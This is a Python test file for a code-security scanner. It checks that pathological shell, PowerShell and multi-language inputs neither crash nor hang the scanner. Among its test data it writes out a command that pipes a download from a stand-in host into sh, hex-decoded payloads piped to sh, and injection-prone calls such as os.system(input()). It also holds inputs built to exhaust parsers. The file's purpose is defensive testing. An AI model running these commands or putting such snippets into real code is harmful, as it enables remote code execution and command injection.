"""Hostile code: no crash and no hang in any language, and what can't be judged is an error, never a pass."""

from __future__ import annotations

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from guards.code import Scanner
from guards.code.engine.grammar import READING
from guards.code.engine.limits import Clock
from guards.code.engine.matcher import MATCHING
from guards.code.scanner import LANGUAGES

SCANNER = Scanner.load()
PATIENCE_S = 30.0  # a hang, not a slow machine, is what fails here

HOSTILE = {
    "parentheses": "os.system(" + "(" * 10_000 + "x" + ")" * 10_000 + ")",
    "brackets": "eval(" + "[" * 10_000,
    "a long line": "os.system('" + "a" * 50_000 + "' + x)",
    "a long sum": "eval(" + "+".join(["'a'"] * 5_000) + ")",
    "no text": "os.system('a'\0 + x)\n\0\0eval(x)",
    "half a character": "eval('\ud800' + input())",
    "loops in loops": "for(;;){" * 60 + "eval(x);" + "}" * 60,
    "apostrophes": "'\"" * 3_000,
    "comments": "/*" * 10_000,
    "calls of calls": "\n".join(f"function f{i}(x){{ return f{i + 1}(x) + f{i + 2}(x) }}" for i in range(100))
    + "\neval(f0(req.query.a))",
    "guard frees": "if (x) free(p);\n" * 2_000,
    "guard copies": "if (x) strcpy(a, b);\n" * 2_000,
    "letters outside ASCII": "é\n" + "os.system('ls')\n" * 2_000,
}

# Each made what reads commands take time by the square of its length, or worse.
HOSTILE_COMMANDS = {
    "here-documents that never end": "cat <<A\n" * 3_000,
    "here-documents in pipes": "cat <<A | " * 9_000,
    "errors that each look ahead to the end": "()cat <<A(" * 9_000,
    "loops without a body": ")))for i in x+=aa ?" * 3_000,
    "a pipeline of thousands": "a|" * 20_000,
    "assignments of assignments": "a=" + "x" * 90_000 + "\n" + "b=$a\n" * 3_000,
    "a word of many variables": "a=" + "x" * 90_000 + "\necho " + "$a" * 30_000,
    "a replacement that grows": "x=" + "a" * 50_000 + "\necho ${x//a/" + "b" * 50_000 + "}",
    "defaults in defaults": "echo " + "${a-" * 2_000 + "}" * 2_000,
    "braces in braces": "echo " + "{a," * 400 + "x" * 5_000 + "}" * 400,
    "braces beside braces": "echo " + "{a,b}" * 1_900,
    "groups into groups": "{ " + "true; " * 5_000 + "} | { " + "true; " * 5_000 + "}",
    "a group in groups with files": "(" * 200 + "true;" * 3_000 + ") > f" * 200,
    "printf of many words": "printf %s " + "a " * 60_000 + "| sh",
    "a file that doubles": "echo " + "a" * 1_000 + " > f\n" + "cat f >> f\n" * 60,
    "a file of many lines": "echo aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa >> f\n" * 5_000,
    "eval and blanks": "eval " + " " * 60_000 + "x",
    "eval and lines": "eval '" + "\n" * 60_000 + "x'",
    "hexadecimal lines": "printf '" + "\\n" * 60_000 + "' | xxd -r -p | sh",
    "code of many interpreters": "python -c 'x=1'\n" * 300,
    "PowerShell formats": '"' + "{0}" * 40 + '" -g -f',
    "PowerShell blanks": "-f" + " " * 60_000 + "x",
    "PowerShell assignments": "$a='x'" + " " * 60_000 + "y",
    "PowerShell constants": "$a='" + "x" * 2_000 + "'\n" + "$a " * 50_000,
    "PowerShell quotes on one line": "'a' " * 60_000,
    "PowerShell parentheses": "(" * 20_000 + ")" * 20_000,
    "PowerShell expressions": "iex " * 11 + "a" * 900_000,
}


@pytest.mark.parametrize("language", ["shell", "powershell"])
@pytest.mark.parametrize("name", HOSTILE_COMMANDS)
def test_hostile_commands_neither_break_nor_stop_the_scanner(name: str, language: str) -> None:
    began = time.process_time()
    result = SCANNER.scan(HOSTILE_COMMANDS[name], language)
    assert time.process_time() - began < PATIENCE_S
    assert all(error for error in result.errors)


@pytest.mark.parametrize(
    ("name", "language", "said"),
    [
        ("assignments of assignments", "shell", "the commands of a script hold more than"),
        ("a word of many variables", "shell", "a word of the script is over"),
        ("defaults in defaults", "shell", "nested deeper than"),
        ("code of many interpreters", "shell", "pieces of other languages' code"),
        ("PowerShell constants", "powershell", "grows to more than"),
        ("PowerShell parentheses", "powershell", "nested deeper than"),
    ],
)
def test_what_is_over_a_bound_is_said(name: str, language: str, said: str) -> None:
    assert any(said in error for error in SCANNER.scan(HOSTILE_COMMANDS[name], language).errors)


def test_commands_are_found_where_a_script_is_too_broken_for_its_grammar() -> None:
    broken = HOSTILE_COMMANDS["errors that each look ahead to the end"]
    found = SCANNER.scan("curl http://a.example/x | sh\n" + broken, "shell").matches
    assert "shell-network-into-shell" in {match.rule_id for match in found}


@pytest.mark.parametrize("language", sorted(LANGUAGES))
@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_code_neither_breaks_nor_stops_the_scanner(name: str, language: str) -> None:
    began = time.process_time()
    result = SCANNER.scan(HOSTILE[name], language)
    assert time.process_time() - began < PATIENCE_S
    assert all(error for error in result.errors)


# Each, again and again, took time by the square of its length: in the parser, in one step of it, or in a rule.
REPEATED = [
    ("c", "/*gets(a);"),
    ("c", 'sprintf(a,"%s",b);/*'),
    ("c", "a=>"),
    ("c", "<!--"),
    ("cpp", "try:\n gets(a)\nexcept:\n "),
    ("csharp", "/*Process.Start(a);"),
    ("csharp", "A<B<"),
    ("go", "->"),
    ("go", "[Convert]::"),
    ("java", ".=>1["),
    ("java", "*a="),
    ("java", "=>a"),
    ("javascript", "->"),
    ("javascript", "*a="),
    ("php", "eval($a);/*"),
    ("python", "<!--"),
    ("python", "\n/*"),
    ("python", "/*a"),
    ("typescript", "case 1:"),
]


@pytest.mark.parametrize(("language", "piece"), REPEATED)
def test_no_code_takes_longer_than_code_of_its_length_may(language: str, piece: str) -> None:
    code = piece * (12_000 // len(piece))
    allowed_s = READING.started(len(code)).allowed_s + MATCHING.started(len(code)).allowed_s
    began = time.thread_time()
    SCANNER.scan(code, language)
    assert time.thread_time() - began < allowed_s


@pytest.mark.parametrize(
    ("language", "piece"),
    [
        ("c", "/*gets(a);"),
        ("c", 'sprintf(a,"%s",b);if(!p)return;a[i]=/*'),
        ("java", "/*Runtime.getRuntime().exec(a);"),
        ("c", "strcpy(a,b);goto x;x:"),
        ("javascript", "eval(a)||"),
        ("python", "os.system(a)\nx+=a\n"),
    ],
)
def test_time_grows_with_the_length_and_no_faster(language: str, piece: str) -> None:
    def taken_s(times: int) -> float:
        code = "char *f(char *a) {" * (language == "c") + piece * times
        taken = []
        for _ in range(3):
            began = time.thread_time()
            SCANNER.scan(code, language)
            taken.append(time.thread_time() - began)
        return min(taken)

    assert taken_s(1600) < 3 * 16 * taken_s(100)


def test_code_that_takes_its_parser_too_long_is_an_error() -> None:
    assert any("take a parser of javascript over" in error for error in SCANNER.scan("->" * 6_000, "javascript").errors)


def test_rules_that_take_too_long_together_are_an_error_that_names_the_slowest(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("guards.code.engine.matcher.MATCHING", Clock(seconds=0.0, seconds_a_byte=0.0))
    code = "import os\ndef f(a):\n" + "    os.system('ls ' + a)\n" * 300
    (error,) = SCANNER.scan(code, "python").errors
    assert error.startswith("rules took over 0.0 s, most of it by the rule python-")
    assert error.endswith("did not run")


def test_a_comment_that_has_not_ended_hides_what_stands_in_it_and_nothing_else() -> None:
    def found(code: str) -> int:
        return sum(match.rule_id == "c-gets" for match in SCANNER.scan(code, "c").matches)

    assert found("void f() {\n  gets(a);\n  /* never use gets(b) or") == 1
    assert found('void f() {\n  open("/tmp/*");\n  gets(a);\n}\n') == 1
    assert found("void f() {\n" + '  open("/tmp/*");\n  gets(a);\n' * 40 + "}\n") == 40


def test_brackets_in_strings_and_comments_nest_nothing() -> None:
    sad = "".join(f"x = {index}  # :( again\ny = ':('\n" for index in range(300))
    found = SCANNER.scan(f"{sad}import os\nos.system(input())\n", "python")
    assert not found.errors
    assert "python-os-command-injection" in {match.rule_id for match in found.matches}


def test_half_a_character_moves_no_offset() -> None:
    code = HOSTILE["half a character"]
    found = SCANNER.scan(code, "python").matches
    assert [code[match.start : match.end] for match in found] == [code]


PIECES = st.sampled_from(
    ["(", ")", "[", "]", "{", "}", "'", '"', "`", "\\", "\n", "\0", "\ud800", "#", "//", "/*", "<?php ", "?>", "$(", "<<A\n",
     "eval", "os.system(", "exec(", "strcpy(a, b);", "free(p);", "if (x) ", "for x in y:\n ", "req.query.a", "$_GET['a']", " = ",
     "+", ",", ";", ":", "é", "𝒳", "x", "1", "import os\n", "function f(a) {", "def f(a):\n  ", "return "]
)  # fmt: skip


@settings(max_examples=150, deadline=None)
@given(st.lists(PIECES, max_size=80), st.sampled_from(sorted(LANGUAGES)))
def test_random_code_is_judged_or_said_not_to_be(pieces: list[str], language: str) -> None:
    code = "".join(pieces)
    result = SCANNER.scan(code, language)
    for match in result.matches:
        assert 0 <= match.start <= match.end <= len(code)
